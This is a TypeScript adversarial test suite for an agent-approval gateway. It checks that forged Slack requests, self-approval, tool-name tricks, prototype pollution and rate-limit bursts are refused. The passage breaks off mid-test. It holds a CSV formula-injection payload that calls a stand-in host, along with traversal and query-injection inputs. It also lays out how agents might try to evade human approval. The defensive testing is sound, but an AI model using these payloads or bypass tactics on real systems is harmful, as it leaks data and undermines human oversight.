// Adversarial tests: a malicious agent, a malicious reviewer-side user and forged Slack requests try to
// get a call run without a recorded approval, steal another agent's result, approve their own call,
// bypass rate limits or inject into what reviewers see. Every test here asserts that Airlock REFUSES
// (or neutralises) the attack, against a running gateway: real redis-server, the demo lab upstream over
// stdio, the MCP SDK Client (or raw JSON-RPC over HTTP) as the agent, signed POSTs as Slack.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Client } from '@modelcontextprotocol/sdk/client/index.js';
import type { CallToolResult } from '@modelcontextprotocol/sdk/types.js';
import { startRedis, type TestRedis } from '../helpers/redis.js';
import { labServerCommand, startTestAirlock, type TestAirlock } from '../helpers/airlock-harness.js';
import { startFakeSlack, type FakeSlack } from '../helpers/fake-slack.js';
import {
  blockActionPayload,
  postInteraction,
  slackSignatureHeaders,
  viewSubmissionPayload,
} from '../helpers/slack-signing.js';
import { untilChanged } from '../helpers/changes.js';
import { decisionOf } from '../../src/gateway/tool-error.js';

const CI = 'ci-bot-token-0123456789abcdef';
const OPS = 'ops-bot-token-0123456789abcdef';
const ALICE = 'alice-token-0123456789abcdef';
const BOB = 'bob-token-0123456789abcdefgh';
const CAROL = 'carol-token-0123456789abcdef';
const DAVE = 'dave-token-0123456789abcdefg';
const SECRET = 'adversarial-signing-secret';

const LAB = { ...labServerCommand(), env: { LAB_TIME_SCALE: '0' } };

const held = (approvers: string[], extra: Record<string, unknown> = {}) => ({
  action: 'require_approval',
  approval: { approvers, timeout: '2m', wait: '300ms', ...extra },
});

const POLICY = {
  version: '1',
  default: 'deny',
  tools: {
    list_vms: {},
    health_checks: { limits: [{ counter: 'hc', window: 'minute', max: 3, scope: 'grant' }] },
    get_vm_console_ticket: {
      limits: [{ counter: 'shared', window: 'minute', max: 2, scope: 'agent' }],
    },
    capture_network_traffic: {
      when: [{ args: { duration: { lte: 60 }, filter: { exists: true } }, action: 'allow' }],
      ...held([]),
    },
    start_vm: held(['alice', 'bob', 'carol', 'dave']),
    stop_vm: held(['alice', 'bob', 'carol'], { min_approvals: 2 }),
    vm_management: held(['alice']),
    delete_vm: { action: 'deny', reason: 'Deleting is done by people, not agents' },
  },
};

let redis: TestRedis;
let fake: FakeSlack;
let gw: TestAirlock;

before(async () => {
  redis = await startRedis();
  fake = await startFakeSlack();
  fake.users.set('UALICE', 'Alice');
  fake.users.set('UCAROL', 'Carol');
  fake.users.set('UMALLORY', 'Mallory');
  gw = await startTestAirlock({
    redisUrl: redis.url,
    policies: { lab: POLICY },
    config: {
      servers: { lab: LAB },
      publicUrl: 'https://airlock.example.com',
      agents: [
        { id: 'ci-bot', token: CI, owner: 'carol' },
        // Owner written as a Slack id: it must still be recognised as dave on every surface.
        { id: 'ops-bot', token: OPS, owner: 'UDAVE' },
      ],
      reviewers: [
        { id: 'alice', token: ALICE, slack: 'UALICE' },
        { id: 'bob', token: BOB },
        { id: 'carol', token: CAROL, slack: 'UCAROL' },
        { id: 'dave', token: DAVE, slack: 'UDAVE' },
      ],
      slack: { botToken: 'xoxb-adv', signingSecret: SECRET, channel: 'C0APPROVALS', apiUrl: fake.apiUrl },
    },
  });
});

after(async () => {
  await gw?.stop();
  await fake?.stop();
  await redis?.stop();
});

// ---------------------------------------------------------------------------------------------------
// helpers

const text = (r: unknown) =>
  ((r as CallToolResult).content?.[0] as { text?: string } | undefined)?.text ?? '';
/** Re-checks after every record change Airlock publishes (no timed polling). */
const changed = <T>(check: () => Promise<T | undefined>, what: string) =>
  untilChanged({ redisUrl: redis.url, prefix: gw.prefix }, check, what);

async function api(
  path: string,
  token: string | undefined,
  body?: unknown,
  headers: Record<string, string> = {},
): Promise<{ status: number; json: any; text: string }> {
  const res = await fetch(`${gw.url}/api${path}`, {
    method: body === undefined ? 'GET' : 'POST',
    headers: {
      ...(token ? { authorization: `Bearer ${token}` } : {}),
      'content-type': 'application/json',
      ...headers,
    },
    ...(body === undefined ? {} : { body: typeof body === 'string' ? body : JSON.stringify(body) }),
  });
  const raw = await res.text();
  let json: any;
  try {
    json = JSON.parse(raw);
  } catch {
    json = undefined;
  }
  return { status: res.status, json, text: raw };
}

async function record(id: string): Promise<any> {
  const r = await api(`/requests/${id}`, ALICE);
  assert.equal(r.status, 200, r.text);
  return r.json;
}

async function requestsFor(tool: string, status?: string): Promise<any[]> {
  const q = new URLSearchParams({ tool, limit: '500', ...(status ? { status } : {}) });
  const r = await api(`/requests?${q}`, ALICE);
  assert.equal(r.status, 200, r.text);
  return r.json.requests;
}

async function vmPower(agent: Client, name: string): Promise<string> {
  const r = (await agent.callTool({ name: 'list_vms', arguments: {} })) as CallToolResult;
  const vms = (r.structuredContent as { vms: { name: string; power: string }[] }).vms;
  const vm = vms.find((v) => v.name === name);
  assert.ok(vm, `lab has ${name}`);
  return vm.power;
}

/** Calls and expects Airlock to hold it: a "pending" answer with a request id. */
async function holdCall(agent: Client, name: string, args: Record<string, unknown>): Promise<string> {
  const r = (await agent.callTool({ name, arguments: args })) as CallToolResult;
  assert.equal(decisionOf(r)?.status, 'pending', `expected pending, got: ${text(r)}`);
  return decisionOf(r)!.requestId;
}

/** A raw Streamable HTTP MCP session, for JSON the SDK client would never send. */
async function rawSession(token: string) {
  const headers = {
    authorization: `Bearer ${token}`,
    'content-type': 'application/json',
    accept: 'application/json, text/event-stream',
  };
  const init = await fetch(`${gw.url}/mcp`, {
    method: 'POST',
    headers,
    body: JSON.stringify({
      jsonrpc: '2.0',
      id: 0,
      method: 'initialize',
      params: { protocolVersion: '2025-06-18', capabilities: {}, clientInfo: { name: 'raw', version: '1' } },
    }),
  });
  const sid = init.headers.get('mcp-session-id');
  await init.text();
  assert.ok(sid, 'session opened');
  const send = async (body: string, sessionId: string = sid, auth = token) => {
    const res = await fetch(`${gw.url}/mcp`, {
      method: 'POST',
      headers: { ...headers, authorization: `Bearer ${auth}`, 'mcp-session-id': sessionId },
      body,
    });
    const raw = await res.text();
    const messages: any[] = [];
    for (const line of raw.split('\n'))
      if (line.startsWith('data: ')) messages.push(JSON.parse(line.slice(6)));
    if (!messages.length && raw.trim().startsWith('{')) messages.push(JSON.parse(raw));
    if (!messages.length && raw.trim().startsWith('[')) messages.push(...JSON.parse(raw));
    return { status: res.status, messages, raw };
  };
  await send(JSON.stringify({ jsonrpc: '2.0', method: 'notifications/initialized' }));
  return { sid, send };
}

const callBody = (id: number, name: string, argsJson: string) =>
  `{"jsonrpc":"2.0","id":${id},"method":"tools/call","params":{"name":${JSON.stringify(name)},"arguments":${argsJson}}}`;

async function slackClick(userId: string, actionId: string, requestId: string) {
  return postInteraction(
    gw.url,
    SECRET,
    blockActionPayload({ user: { id: userId }, actionId, value: requestId }),
  );
}

/** The latest private refusal Slack was asked to show `user`. */
async function ephemeralTo(user: string, pattern: RegExp): Promise<string> {
  const call = await fake.waitFor(
    'chat.postEphemeral',
    (c) => c.params.user === user && pattern.test(String(c.params.text)),
  );
  return String(call.params.text);
}

// ---------------------------------------------------------------------------------------------------

describe('a malicious agent: running a held call without an approval', () => {
  test('tool-name tricks never reach a tool: case, whitespace, look-alikes, globs, prototype names', async () => {
    const agent = await gw.connect({ token: CI });
    const names = [
      'START_VM',
      'Start_vm',
      'start_vm ',
      ' start_vm',
      'start_vm\u200b',
      'start_vm\u0000',
      '\u0455tart_vm', // Cyrillic ѕ
      'start\u2010vm',
      'start_vm'.normalize('NFKD') + '\u0301',
      'start_*',
      'start_v?',
      '*',
      'lab/start_vm',
      'lab.start_vm',
      '__proto__',
      'constructor',
      'hasOwnProperty',
      'toString',
    ];
    for (const name of names) {
      const r = (await agent.callTool({ name, arguments: { vm_name: 'kali-01' } })) as CallToolResult;
      assert.equal(r.isError, true, `${JSON.stringify(name)} must be refused`);
      assert.equal(decisionOf(r)?.status, 'denied', JSON.stringify(name));
      assert.match(text(r), /^Unknown tool/, JSON.stringify(name));
    }
    assert.equal(await vmPower(agent, 'kali-01'), 'stopped', 'nothing started kali-01');
    assert.deepEqual(await requestsFor('start_vm'), [], 'no approval request was even created');
  });

  test('`__proto__` / `constructor` argument keys cannot satisfy an allow rule or pollute prototypes', async () => {
    const agent = await gw.connect({ token: CI });
    // JSON.parse makes `__proto__` an own key, exactly as Airlock's JSON-RPC parsing does.
    const attempts = [
      '{"vm_name":"web-01","interface":"eth0","filter":"tcp","__proto__":{"duration":5}}',
      '{"vm_name":"web-01","interface":"eth0","filter":"tcp","constructor":{"prototype":{"duration":5}}}',
      '{"vm_name":"web-01","interface":"eth0","__proto__":{"filter":"tcp"},"duration":5}',
    ];
    const ids: string[] = [];
    for (const json of attempts) {
      ids.push(await holdCall(agent, 'capture_network_traffic', JSON.parse(json)));
    }
    assert.equal(new Set(ids).size, ids.length, 'three distinct held requests');
    assert.equal(({} as any).duration, undefined, 'Object.prototype not polluted');
    assert.equal(({} as any).filter, undefined, 'Object.prototype not polluted');
    const r = await record(ids[0]!);
    assert.equal(r.status, 'pending');
    // The SDK's request schema drops a `__proto__` member, so what is held (and would run) lacks it too.
    assert.deepEqual(r.args, { vm_name: 'web-01', interface: 'eth0', filter: 'tcp' });
    const c = await record(ids[1]!);
    assert.deepEqual(c.args.constructor, { prototype: { duration: 5 } }, 'an ordinary own key');
  });

  test('type confusion on a numeric allow condition (`duration lte 60`) holds the call instead', async () => {
    const agent = await gw.connect({ token: CI });
    const base = { vm_name: 'web-01', interface: 'eth0', filter: 'tcp' };
    for (const duration of ['5', [5], { lte: 5 }, true, null, 60.000001, 3600]) {
      const r = (await agent.callTool({
        name: 'capture_network_traffic',
        arguments: { ...base, duration },
      })) as CallToolResult;
      assert.equal(decisionOf(r)?.status, 'pending', `duration ${JSON.stringify(duration)}: ${text(r)}`);
    }
    // Missing the `filter` the allow rule requires: held too.
    const nofilter = (await agent.callTool({
      name: 'capture_network_traffic',
      arguments: { vm_name: 'web-01', duration: 5 },
    })) as CallToolResult;
    assert.equal(decisionOf(nofilter)?.status, 'pending');
  });

  test('duplicate JSON keys in a raw body: policy and upstream see the same (last) value', async () => {
    const s = await rawSession(CI);
    // Policy must not see 5 while the upstream runs 3600.
    const a = await s.send(
      callBody(
        10,
        'capture_network_traffic',
        '{"vm_name":"web-01","interface":"eth0","filter":"tcp","duration":5,"duration":3600}',
      ),
    );
    const ra = a.messages.find((m) => m.id === 10)?.result;
    assert.ok(ra, a.raw);
    assert.equal(decisionOf(ra)?.status, 'pending', JSON.stringify(ra));
    const heldRecord = await record(decisionOf(ra)!.requestId);
    assert.equal(
      heldRecord.args.duration,
      3600,
      'the held (and approvable) arguments are the ones that would run',
    );
    // And the reverse: what policy allowed is exactly what the upstream ran.
    const b = await s.send(
      callBody(
        11,
        'capture_network_traffic',
        '{"vm_name":"web-01","interface":"eth0","filter":"tcp","duration":3600,"duration":2}',
      ),
    );
    const rb = b.messages.find((m) => m.id === 11)?.result;
    assert.ok(rb && !rb.isError, b.raw);
    assert.equal(rb.structuredContent.durationSeconds, 2);
  });

  test('a JSON-RPC batch of tools/call is not a way around policy', async () => {
    const s = await rawSession(OPS);
    const batch = `[${callBody(20, 'start_vm', '{"vm_name":"kali-01"}')},${callBody(21, 'delete_vm', '{"vm_name":"db-01"}')}]`;
    const res = await s.send(batch);
    const agent = await gw.connect({ token: OPS });
    assert.equal(await vmPower(agent, 'kali-01'), 'stopped', `batch ran start_vm: ${res.raw}`);
    assert.ok((await vmPower(agent, 'db-01')) !== undefined, 'db-01 still exists');
    for (const m of res.messages) {
      // Either the transport refuses batches outright, or each call got its own policy answer.
      if (m.result) assert.equal(m.result.isError, true, JSON.stringify(m));
    }
  });

  test("tools/call without initialize, or with another agent's session id, is refused", async () => {
    const headers = {
      authorization: `Bearer ${CI}`,
      'content-type': 'application/json',
      accept: 'application/json, text/event-stream',
    };
    const noInit = await fetch(`${gw.url}/mcp`, {
      method: 'POST',
      headers,
      body: callBody(1, 'list_vms', '{}'),
    });
    assert.equal(noInit.status, 400);
    assert.match(await noInit.text(), /send initialize first/);

    const bogus = await fetch(`${gw.url}/mcp`, {
      method: 'POST',
      headers: { ...headers, 'mcp-session-id': '00000000-0000-4000-8000-000000000000' },
      body: callBody(1, 'list_vms', '{}'),
    });
    assert.equal(bogus.status, 404);
    await bogus.text();

    // ops-bot's valid session id, presented with ci-bot's token.
    const ops = await rawSession(OPS);
    const stolen = await ops.send(callBody(2, 'list_vms', '{}'), ops.sid, CI);
    assert.equal(stolen.status, 404, stolen.raw);
    // ...and with no token at all.
    const anon = await fetch(`${gw.url}/mcp`, {
      method: 'POST',
      headers: { ...headers, authorization: '', 'mcp-session-id': ops.sid },
      body: callBody(3, 'list_vms', '{}'),
    });
    assert.equal(anon.status, 401);
    await anon.text();
  });

  test('changing the arguments on the "identical" retry never runs the new arguments under the old approval', async () => {
    const agent = await gw.connect({ token: CI });
    const id = await holdCall(agent, 'vm_management', {
      vm_name: 'web-01',
      action: 'snapshot',
      options: { snapshot_name: 'ok' },
    });
    // The agent now retries with different (worse) arguments, in parallel with the approval.
    const swapped = agent.callTool({
      name: 'vm_management',
      arguments: { vm_name: 'db-01', action: 'restore', options: { snapshot_name: 'pre-upgrade' } },
    });
    const approved = await api(`/requests/${id}/approve`, ALICE, {});
    assert.equal(approved.status, 200, approved.text);
    const s = (await swapped) as CallToolResult;
    assert.equal(decisionOf(s)?.status, 'pending', 'the changed call is a new request');
    assert.notEqual(decisionOf(s)?.requestId, id);
    const retry = (await agent.callTool({
      name: 'vm_management',
      arguments: { options: { snapshot_name: 'ok' }, action: 'snapshot', vm_name: 'web-01' }, // key order shuffled
    })) as CallToolResult;
    assert.notEqual(retry.isError, true, text(retry));
    assert.match(text(retry), /web-01/);
    const restore = await record(decisionOf(s)!.requestId);
    assert.equal(restore.status, 'pending', 'the restore of db-01 still waits for its own approval');
    assert.equal(restore.args.vm_name, 'db-01');
  });

  test('-0 vs 0 and 1.0 vs 1 are the same call (one request), and what runs is the stored value', async () => {
    const s = await rawSession(CI);
    const first = await s.send(callBody(30, 'stop_vm', '{"vm_name":"web-01","force":false,"x":-0}'));
    const id = decisionOf(first.messages.find((m) => m.id === 30).result)!.requestId;
    const second = await s.send(callBody(31, 'stop_vm', '{"x":0.0,"force":false,"vm_name":"web-01"}'));
    assert.equal(decisionOf(second.messages.find((m) => m.id === 31).result)!.requestId, id);
    // A genuinely different value is a different request.
    const third = await s.send(callBody(32, 'stop_vm', '{"x":1,"force":false,"vm_name":"web-01"}'));
    assert.notEqual(decisionOf(third.messages.find((m) => m.id === 32).result)!.requestId, id);
    const pend = await requestsFor('stop_vm', 'pending');
    assert.equal(pend.filter((r) => r.args.vm_name === 'web-01').length, 2);
    for (const r of pend) await api(`/requests/${r.id}/reject`, BOB, { reason: 'test cleanup' });
  });

  test('a burst of identical retries creates one request and the approved call runs exactly once', async () => {
    const agent = await gw.connect({ token: OPS });
    const args = { vm_name: 'kali-01' };
    const first = await holdCall(agent, 'start_vm', args);
    const burst = await Promise.all(
      Array.from({ length: 20 }, () => agent.callTool({ name: 'start_vm', arguments: { ...args } })),
    );
    for (const r of burst) assert.equal(decisionOf(r as CallToolResult)?.requestId, first);
    const pend = (await requestsFor('start_vm')).filter((r) => r.agent === 'ops-bot');
    assert.equal(pend.length, 1, 'one request, not 21');
    const ok = await api(`/requests/${first}/approve`, ALICE, {});
    assert.equal(ok.status, 200, ok.text);
    const results = await Promise.all(
      Array.from({ length: 10 }, () => agent.callTool({ name: 'start_vm', arguments: { ...args } })),
    );
    const texts = new Set(results.map((r) => text(r)));
    assert.equal(texts.size, 1, 'every retry receives the one stored result');
    assert.match([...texts][0]!, /VM "kali-01" started/, 'the first and only run started it');
    const r = await record(first);
    assert.equal(r.status, 'executed');
    // Stop it again for the other tests (needs two approvers).
    const stopId = await holdCall(agent, 'stop_vm', { vm_name: 'kali-01' });
    await api(`/requests/${stopId}/approve`, ALICE, {});
    await api(`/requests/${stopId}/approve`, BOB, {});
    await changed(async () => ((await record(stopId)).status === 'executed' ? true : undefined), 'stop run');
    assert.equal(await vmPower(agent, 'kali-01'), 'stopped');
  });
});

describe("a malicious agent: another agent's result or decision", () => {
  test("an identical call from another agent does not attach to, or receive, the first agent's result", async () => {
    const ci = await gw.connect({ token: CI });
    const ops = await gw.connect({ token: OPS });
    // get_vm_console_ticket is allowed, so use vm_management for a held call with a secret-ish result.
    const mine = await holdCall(ci, 'vm_management', {
      vm_name: 'dc-01',
      action: 'snapshot',
      options: { snapshot_name: 'ci-secret' },
    });
    await api(`/requests/${mine}/approve`, ALICE, {});
    const mineResult = (await ci.callTool({
      name: 'vm_management',
      arguments: { vm_name: 'dc-01', action: 'snapshot', options: { snapshot_name: 'ci-secret' } },
    })) as CallToolResult;
    assert.notEqual(mineResult.isError, true, text(mineResult));
    const theirs = (await ops.callTool({
      name: 'vm_management',
      arguments: { vm_name: 'dc-01', action: 'snapshot', options: { snapshot_name: 'ci-secret' } },
    })) as CallToolResult;
    assert.equal(decisionOf(theirs)?.status, 'pending', 'ops-bot must ask for itself');
    assert.notEqual(decisionOf(theirs)?.requestId, mine);
    await api(`/requests/${decisionOf(theirs)!.requestId}/reject`, ALICE, { reason: 'cleanup' });
  });

  test('an agent token is not a reviewer token: the API refuses agents, forged headers and junk tokens', async () => {
    const agent = await gw.connect({ token: CI });
    const id = await holdCall(agent, 'start_vm', { vm_name: 'web-01' });
    for (const auth of [
      `Bearer ${CI}`,
      `Bearer ${OPS}`,
      'Bearer ',
      `Basic ${Buffer.from(`alice:${ALICE}`).toString('base64')}`,
      `Bearer ${ALICE.toUpperCase()}`,
      `Bearer ${ALICE} ${ALICE}`,
      `Bearer ${ALICE.slice(0, -1)}`,
    ]) {
      const r = await api(
        `/requests/${id}/approve`,
        undefined,
        {},
        { authorization: auth, 'x-airlock-client': 'console' },
      );
      assert.equal(r.status, 401, `${auth}: ${r.text}`);
    }
    // The SSE token-in-query exception is for GET /events only.
    const q = await fetch(`${gw.url}/api/requests/${id}/approve?token=${ALICE}`, { method: 'POST' });
    assert.equal(q.status, 401);
    await q.text();
    assert.equal((await record(id)).status, 'pending');
    await api(`/requests/${id}/reject`, BOB, { reason: 'cleanup' });
  });

  test('request ids are not guessable handles: malformed, traversal and direct-decision ids decide nothing', async () => {
    const agent = await gw.connect({ token: CI });
    const allowed = (await agent.callTool({ name: 'list_vms', arguments: {} })) as CallToolResult;
    assert.notEqual(allowed.isError, true);
    const direct = await changed(
      async () => (await requestsFor('list_vms'))[0],
      'the allowed call in history',
    );
    assert.ok(direct, 'the allowed call is in history');
    const r = await api(`/requests/${direct.id}/approve`, ALICE, {});
    assert.equal(r.status, 409);
    assert.match(r.json.error.message, /decided by policy/);
    for (const bad of ['ar_', 'ar_..%2F..%2Fpending', 'ar_AAAAAAAAAAAAAAAAAAAA', '*', 'ar_*']) {
      const x = await api(`/requests/${bad}/approve`, ALICE, {});
      assert.equal(x.status, 404, `${bad}: ${x.text}`);
    }
  });
});

describe('approving your own call, or counting twice', () => {
  test('the agent owner may not approve via the API (owner named by reviewer id)', async () => {
    const agent = await gw.connect({ token: CI }); // owner: carol
    const id = await holdCall(agent, 'start_vm', { vm_name: 'db-01' });
    const r = await api(`/requests/${id}/approve`, CAROL, {});
    assert.equal(r.status, 403, r.text);
    assert.equal(r.json.error.code, 'SELF_APPROVAL');
    // Nor via Slack with her mapped Slack id.
    const click = await slackClick('UCAROL', 'airlock_approve', id);
    assert.equal(click.status, 200);
    assert.match(await ephemeralTo('UCAROL', /owns agent ci-bot/), /may not approve/);
    assert.equal((await record(id)).status, 'pending');
    // Rejecting her own agent's call is fine.
    const rej = await api(`/requests/${id}/reject`, CAROL, { reason: 'no' });
    assert.equal(rej.status, 200);
  });

  test('the agent owner may not approve when the owner is written as a Slack id (UDAVE = dave)', async () => {
    const agent = await gw.connect({ token: OPS }); // owner: UDAVE
    const id = await holdCall(agent, 'start_vm', { vm_name: 'dc-01' });
    const r = await api(`/requests/${id}/approve`, DAVE, {});
    assert.equal(r.status, 403, r.text);
    assert.equal(r.json.error.code, 'SELF_APPROVAL');
    await slackClick('UDAVE', 'airlock_approve', id);
    assert.match(await ephemeralTo('UDAVE', /owns agent ops-bot/), /may not approve/);
    assert.equal((await record(id)).status, 'pending');
    await api(`/requests/${id}/reject`, BOB, { reason: 'cleanup' });
  });

  test('min_approvals 2: the same person via API and via Slack counts once', async () => {
    const agent = await gw.connect({ token: OPS });
    const id = await holdCall(agent, 'stop_vm', { vm_name: 'dc-01', force: true });
    const a = await api(`/requests/${id}/approve`, ALICE, {});
    assert.equal(a.status, 200);
    assert.equal(a.json.status, 'pending');
    await slackClick('UALICE', 'airlock_approve', id);
    assert.match(await ephemeralTo('UALICE', /already approved/), /needs another approver/);
    const again = await api(`/requests/${id}/approve`, ALICE, {}, { 'x-airlock-client': 'cli' });
    assert.equal(again.status, 409);
    const r = await record(id);
    assert.equal(r.status, 'pending', 'still one approval short');
    assert.equal(r.decisions.length, 1);
    assert.equal(await vmPower(agent, 'dc-01'), 'running', 'dc-01 was not stopped');
    await api(`/requests/${id}/reject`, BOB, { reason: 'cleanup' });
  });

  test('a reviewer not listed in the rule, and a Slack user who is not a reviewer, are refused', async () => {
    const agent = await gw.connect({ token: CI });
    const id = await holdCall(agent, 'vm_management', {
      vm_name: 'web-01',
      action: 'snapshot',
      options: { snapshot_name: 'x1' },
    });
    const bob = await api(`/requests/${id}/approve`, BOB, {});
    assert.equal(bob.status, 403);
    assert.equal(bob.json.error.code, 'NOT_AN_APPROVER');
    const bobRej = await api(`/requests/${id}/reject`, BOB, { reason: 'mine now' });
    assert.equal(bobRej.status, 403, 'an outsider cannot reject either');
    await slackClick('UMALLORY', 'airlock_approve', id);
    assert.match(await ephemeralTo('UMALLORY', /not an approver/), /slack:UMALLORY/);
    // Approvers: [] means "any configured reviewer" — still not any Slack user.
    const cap = await holdCall(agent, 'capture_network_traffic', {
      vm_name: 'web-01',
      duration: 900,
      filter: 'tcp',
    });
    await slackClick('UMALLORY', 'airlock_approve', cap);
    await fake.waitFor(
      'chat.postEphemeral',
      (c) => c.params.user === 'UMALLORY' && String(c.params.text).includes(cap),
    );
    assert.equal((await record(id)).status, 'pending');
    assert.equal((await record(cap)).status, 'pending');
    await api(`/requests/${id}/reject`, ALICE, { reason: 'cleanup' });
    await api(`/requests/${cap}/reject`, ALICE, { reason: 'cleanup' });
  });
});

describe('forged Slack requests', () => {
  test('bad signature, wrong secret, stale timestamp, edited body and missing headers get 401 and decide nothing', async () => {
    const agent = await gw.connect({ token: CI });
    const id = await holdCall(agent, 'vm_management', {
      vm_name: 'web-01',
      action: 'snapshot',
      options: { snapshot_name: 'x2' },
    });
    const payload = blockActionPayload({ user: { id: 'UALICE' }, actionId: 'airlock_approve', value: id });
    const forged = await postInteraction(gw.url, SECRET, payload, { signWith: 'not-the-secret' });
    assert.equal(forged.status, 401);
    const stale = await postInteraction(gw.url, SECRET, payload, {
      timestampSec: Math.floor(Date.now() / 1000) - 6 * 60,
    });
    assert.equal(stale.status, 401);
    const garbage = await postInteraction(gw.url, SECRET, payload, { signature: 'v0=' + '0'.repeat(64) });
    assert.equal(garbage.status, 401);
    // Replay a body that Mallory (not an approver) legitimately got signed, with Alice's id swapped in.
    const mallory = blockActionPayload({ user: { id: 'UMALLORY' }, actionId: 'airlock_approve', value: id });
    const rawBody = new URLSearchParams({ payload: JSON.stringify(mallory) }).toString();
    const sig = slackSignatureHeaders(SECRET, rawBody);
    const edited = rawBody.replace(/UMALLORY/g, 'UALICE');
    const replay = await fetch(`${gw.url}/slack/events`, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded', ...sig },
      body: edited,
    });
    assert.equal(replay.status, 401);
    await replay.text();
    // Same bytes, JSON content type instead of form: still has to match the signature.
    const asJson = await fetch(`${gw.url}/slack/events`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', ...slackSignatureHeaders(SECRET, '{}') },
      body: JSON.stringify(payload),
    });
    assert.equal(asJson.status, 401);
    await asJson.text();
    const none = await fetch(`${gw.url}/slack/events`, {
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      body: new URLSearchParams({ payload: JSON.stringify(payload) }).toString(),
    });
    assert.equal(none.status, 401);
    await none.text();
    // Refused before any listener ran: there is nothing to wait for.
    const r = await record(id);
    assert.equal(r.status, 'pending');
    assert.equal(r.decisions.length, 0);
    await api(`/requests/${id}/reject`, ALICE, { reason: 'cleanup' });
  });

  test('a validly signed replay of a click is not a second vote', async () => {
    const agent = await gw.connect({ token: OPS });
    const id = await holdCall(agent, 'stop_vm', { vm_name: 'web-01', force: true });
    const payload = blockActionPayload({ user: { id: 'UALICE' }, actionId: 'airlock_approve', value: id });
    assert.equal((await postInteraction(gw.url, SECRET, payload)).status, 200);
    await changed(async () => ((await record(id)).decisions.length ? true : undefined), 'the first vote');
    assert.equal((await postInteraction(gw.url, SECRET, payload)).status, 200);
    await ephemeralTo('UALICE', new RegExp(`already approved request ${id}`));
    const r = await record(id);
    assert.equal(r.status, 'pending');
    assert.equal(r.decisions.length, 1);
    assert.equal(await vmPower(agent, 'web-01'), 'running');
    await api(`/requests/${id}/reject`, BOB, { reason: 'cleanup' });
  });

  test('a view_submission whose private_metadata names another request is judged for that request', async () => {
    const agent = await gw.connect({ token: CI });
    // Alice may decide vm_management; Mallory opens a modal and points it at that request.
    const id = await holdCall(agent, 'vm_management', {
      vm_name: 'web-01',
      action: 'snapshot',
      options: { snapshot_name: 'x3' },
    });
    const m = await postInteraction(
      gw.url,
      SECRET,
      viewSubmissionPayload({ user: { id: 'UMALLORY' }, requestId: id, reason: 'hijack' }),
    );
    assert.equal(m.status, 200);
    await ephemeralTo('UMALLORY', /not an approver/);
    // Junk metadata never reaches Redis as a key.
    for (const meta of ['*', 'ar_', `${id}\n`, `${id} `, '../x', '']) {
      await postInteraction(
        gw.url,
        SECRET,
        viewSubmissionPayload({ user: { id: 'UALICE' }, requestId: meta, reason: 'x' }),
      );
    }
    // Junk metadata is refused synchronously right after the ack, before the response reaches us.
    const r = await record(id);
    assert.equal(r.status, 'pending');
    assert.equal(r.decisions.length, 0);
    await api(`/requests/${id}/reject`, ALICE, { reason: 'cleanup' });
  });
});

describe('rate limits', () => {
  test('a parallel burst gets exactly `max` calls through, whatever the arguments', async () => {
    const agent = await gw.connect({ token: CI });
    const burst = await Promise.all(
      Array.from({ length: 25 }, (_, i) =>
        agent.callTool({
          name: 'health_checks',
          arguments: i % 2 ? { vm_name: 'web-01' } : { checks: ['disk'], vm_name: `web-0${(i % 3) + 1}` },
        }),
      ),
    );
    const limited = burst.filter((r) => decisionOf(r as CallToolResult)?.status === 'rate_limited');
    assert.equal(burst.length - limited.length, 3, 'exactly max=3 got through');
    assert.ok(decisionOf(limited[0] as CallToolResult)!.retryAfter! >= 1);
    // A second session of the same agent shares the grant counter.
    const again = await gw.connect({ token: CI });
    const r = (await again.callTool({ name: 'health_checks', arguments: {} })) as CallToolResult;
    assert.equal(decisionOf(r)?.status, 'rate_limited');
  });

  test('an agent-scoped counter is per agent: two agents each get their own `max`, never more', async () => {
    const ci = await gw.connect({ token: CI });
    const ops = await gw.connect({ token: OPS });
    const call = (c: Client) =>
      c.callTool({ name: 'get_vm_console_ticket', arguments: { vm_name: 'web-01' } });
    const all = await Promise.all([
      ...Array.from({ length: 6 }, () => call(ci)),
      ...Array.from({ length: 6 }, () => call(ops)),
    ]);
    const ok = all.map((r) => decisionOf(r as CallToolResult)?.status !== 'rate_limited');
    assert.equal(ok.slice(0, 6).filter(Boolean).length, 2);
    assert.equal(ok.slice(6).filter(Boolean).length, 2);
  });
});

describe('injection into what reviewers and auditors read', () => {
  test('hostile history filters are literal values, never patterns or key names', async () => {
    for (const q of [
      'tool=*',
      'tool=start_*',
      'agent=*',
      'agent=ci-bot%2A',
      'server=lab%3Ah%3Aall',
      'tool=%00',
      'tool=%7Bal%7D',
      'status=pending%2Call',
    ]) {
      const r = await api(`/requests?${q}`, ALICE);
      if (r.status !== 200) {
        assert.equal(r.status, 400, `${q}: ${r.text}`);
        continue;
      }
      // Only records whose field is literally the value given (an agent may really call a tool named `*`).
      const [name, value] = [...new URLSearchParams(q)][0]!;
      for (const rec of r.json.requests)
        assert.equal(rec[name], value, `${q} matched ${rec.id} (${rec[name]})`);
    }
    for (const q of [
      'tool=a&tool=b',
      'tool[]=start_vm',
      'tool[$ne]=x',
      'limit=100000',
      'limit=-1',
      'since=yesterday',
      'cursor=%7B%7D',
      'q=1',
    ]) {
      const r = await api(`/requests?${q}`, ALICE);
      assert.equal(r.status, 400, `${q}: ${r.text}`);
      assert.equal(r.json.error.code, 'BAD_REQUEST');
    }
  });

  test('CSV export neutralises formulas an agent plants in tool names', async () => {
    const agent = await gw.connect({ token: CI });
    const evil = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', '+1+1', '-2+3', '@SUM(A1)', '\t=1'];
    for (const name of evil) {
      const r = (await agent.callTool({ name, arguments: {} })) as CallToolResult;
      assert.equal(decisionOf(r)?.status, 'denied');
    }
    await changed(
      async () => ((await requestsFor('@SUM(A1)')).length ? true : undefined),
      'the denied calls in history',
    );
    const res = await fetch(`${gw.url}/api/requests/export?format=csv`, {
      headers: { authorization: `Bearer ${ALICE}` },
    });
    assert.equal(res.status, 200);
    const csv = await res.text();
    // Every cell, after CSV unquoting, must not begin with a formula trigger.
    const cells = csv.split('\r\n').flatMap((line) => parseCsvLine(line));
    for (const cell of cells)
      assert.doesNotMatch(cell, /^[=+\-@\t\r]/, `formula cell: ${JSON.stringify(cell)}`);
    assert.ok(
